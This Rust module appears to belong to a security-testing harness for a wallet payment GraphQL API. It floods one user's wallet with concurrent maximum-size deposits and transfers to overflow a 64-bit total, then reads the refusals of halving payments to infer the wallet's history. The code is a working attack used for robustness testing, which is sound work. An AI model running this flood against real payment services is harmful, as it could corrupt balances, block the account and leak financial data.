//! Large payments into somebody's wallet, until no account could count any further in 64 bits. Smaller and smaller ones fill
//! the rest, and their refusals would tell the payer what the wallet has ever taken in.

use std::{
    sync::{
        Arc,
        atomic::{AtomicUsize, Ordering},
    },
    time::Duration,
};

use serde_json::{Value, json};
use tokio::{task::JoinSet, time::Instant};

use crate::{
    attacks::{
        attack::{Attack, Tally},
        stage::Stage,
        wire::Wire,
    },
    harness::User,
};

/// 9,223 of them fill a counter of 64 bits.
const PAYMENTS: usize = 9300;
/// 10^15 minor units, in minor units: more than that was never allowed in one payment.
const LARGEST: i64 = 1_000_000_000_000_000;
/// The largest power of two that 64 bits hold.
const HALF_OF_ALL: i64 = 1 << 62;
/// How many payments are sent in one request.
const TOGETHER: usize = 20;
const PAYERS: usize = 4;
const WORKERS_OF_EACH: usize = 2;
/// How long the payers try.
const LONGEST: Duration = Duration::from_mins(3);

pub async fn largest(stage: &Stage) -> Attack {
    let mut payers = Vec::new();
    for number in 0..PAYERS {
        payers.push(stage.user(&format!("payer{number}")).await);
    }
    let filler = stage.user("filler").await;
    let filler = (Wire::of_stranger(stage.url(), PAYERS).with_token(filler.client.token.as_deref()), filler.wallet);
    let friend = stage.user("friend").await;
    friend.fund("1000").await;
    let (tally, url, canary) = (Tally::default(), stage.url().to_owned(), stage.canary.clone());
    let of_run = tally.clone();
    Attack::new(&tally, async move {
        let (left, end) = (Arc::new(AtomicUsize::new(PAYMENTS / TOGETHER)), Instant::now() + LONGEST);
        let mut workers = JoinSet::new();
        for (number, payer) in payers.into_iter().enumerate() {
            for _ in 0..WORKERS_OF_EACH {
                let wire = Wire::of_stranger(&url, number).with_token(payer.client.token.as_deref());
                workers.spawn(pay(of_run.clone(), wire, payer.wallet.clone(), left.clone(), end));
            }
        }
        workers.join_all().await;
        fill_up(&of_run, &filler).await;
        still_usable(&of_run, &url, &canary, &friend).await;
    })
}

/// The fields of a mutation that take money in and pay it.
fn take_and_pay(number: usize, wallet: &str, minor: i64) -> String {
    let amount = format!("{}.{:02}", minor / 100, minor % 100);
    format!(
        "d{number}: deposit(input: {{ wallet: {{ id: \"{wallet}\" }}, amount: \"{amount}\" }}) {{
             userErrors {{ code }} }}
         t{number}: transfer(input: {{
             from: {{ id: \"{wallet}\" }}, to: {{ username: \"canary\" }}, amount: \"{amount}\" }}) {{
             userErrors {{ code }} }}"
    )
}

fn code(payload: &Value) -> &str {
    payload["userErrors"][0]["code"].as_str().unwrap_or("done")
}

/// Pays halves, quarters, eighths and so on of what 64 bits hold.
async fn fill_up(tally: &Tally, (wire, wallet): &(Wire, String)) {
    let mut minor = HALF_OF_ALL;
    let mut refused = 0;
    while minor > 0 {
        let query = format!("mutation {{ {} }}", take_and_pay(0, wallet, minor));
        match wire.ask_for_payloads(&query).await.map(|payloads| code(&payloads["t0"]).to_owned()) {
            Ok(code) if minor <= LARGEST && code == "LIMIT_REACHED" => refused += 1,
            Ok(_) => {}
            Err(failure) => tally.add(failure),
        }
        minor /= 2;
    }
    if refused > 0 {
        tally.reached(format!("{refused} refused payments tell the payer what the wallet has taken in"));
    }
}

/// Takes money in and pays it, again and again.
async fn pay(tally: Tally, wire: Wire, wallet: String, left: Arc<AtomicUsize>, end: Instant) {
    let all: Vec<_> = (0..TOGETHER).map(|number| take_and_pay(number, &wallet, LARGEST)).collect();
    let query = format!("mutation {{ {} }}", all.join("\n"));
    let take = |left: usize| left.checked_sub(1);
    while Instant::now() < end && left.fetch_update(Ordering::SeqCst, Ordering::SeqCst, take).is_ok() {
        match wire.ask_for_payloads(&query).await {
            Ok(payloads) => {
                for (name, payload) in payloads {
                    let what = if name.starts_with('d') { "deposit" } else { "payment" };
                    tally.add(format!("{what} {}", code(&payload)));
                }
            }
            Err(failure) => tally.add(failure),
        }
    }
}

/// Whether the wallet that was paid into is as good as before.
async fn still_usable(tally: &Tally, url: &str, canary: &User, friend: &User) {
    let wire = Wire::of_canary(url, true);
    let [own, of_friend] = [canary, friend].map(|user| wire.with_token(user.client.token.as_deref()));
    let (wallet, theirs) = (json!({ "id": canary.wallet }), json!({ "id": friend.wallet }));
    let put = json!({ "wallet": wallet, "amount": "1" });
    for (wire, name, input_type, input) in [
        (&own, "deposit", "DepositInput", put.clone()),
        (&own, "withdraw", "WithdrawInput", put),
        (&own, "transfer", "TransferInput", json!({ "from": wallet, "to": theirs, "amount": "1" })),
        (&of_friend, "transfer", "TransferInput", json!({ "from": theirs, "to": wallet, "amount": "1" })),
    ] {
        let query = format!("mutation($input: {input_type}!) {{ {name}(input: $input) {{ userErrors {{ code }} }} }}");
        if let Err(failure) = wire.ask(&query, json!({ "input": input })).await {
            tally.reached(format!("afterwards a {name} with the canary's wallet fails: {failure}"));
        }
    }
}
